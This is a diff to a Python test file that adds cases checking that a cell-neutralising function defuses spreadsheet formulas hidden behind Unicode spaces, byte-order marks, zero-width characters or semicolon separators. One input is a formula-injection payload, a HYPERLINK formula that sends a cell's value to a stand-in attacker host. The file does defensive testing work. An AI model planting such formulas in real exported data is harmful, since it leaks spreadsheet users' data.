@@ -141,7 +141,26 @@ def test_a_cell_a_spreadsheet_would_run_is_neutralised(start: str) -> None:
     assert neutral(text) == "'" + text.replace("\r", "\n")
 
 
-@pytest.mark.parametrize("text", ["Plain words", "1 + 1 = 2", "", "A-road", "e-mail @home", "50%"])
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        # Spaces of any kind, a byte-order mark or a zero-width mark before the sign: the apostrophe goes first.
+        (' =HYPERLINK("https://evil.example/?"&A1)', '\' =HYPERLINK("https://evil.example/?"&A1)'),
+        ("\ufeff=1+1", "'\ufeff=1+1"),
+        ("\u00a0+1+1", "'\u00a0+1+1"),
+        ("\u3000=2+2", "'\u3000=2+2"),
+        ("\u200b-1+2", "'\u200b-1+2"),
+        ("＝1+1 and more", "'＝1+1 and more"),
+        # A spreadsheet whose list separator is ';' splits the file there: each part is a cell to it.
+        ("Fairs;@SUM(1+1)", "Fairs;'@SUM(1+1)"),
+        ("Acme;=HYPERLINK(1); -2+3", "Acme;'=HYPERLINK(1);' -2+3"),
+    ],
+)
+def test_a_formula_after_what_a_spreadsheet_skips_or_after_a_semicolon_is_neutralised(text: str, shown: str) -> None:
+    assert neutral(text) == shown
+
+
+@pytest.mark.parametrize("text", ["Plain words", "1 + 1 = 2", "", "A-road", "e-mail @home", "50%", "a; b", "x;y"])
 def test_an_ordinary_cell_is_unchanged(text: str) -> None:
     assert neutral(text) == text
 
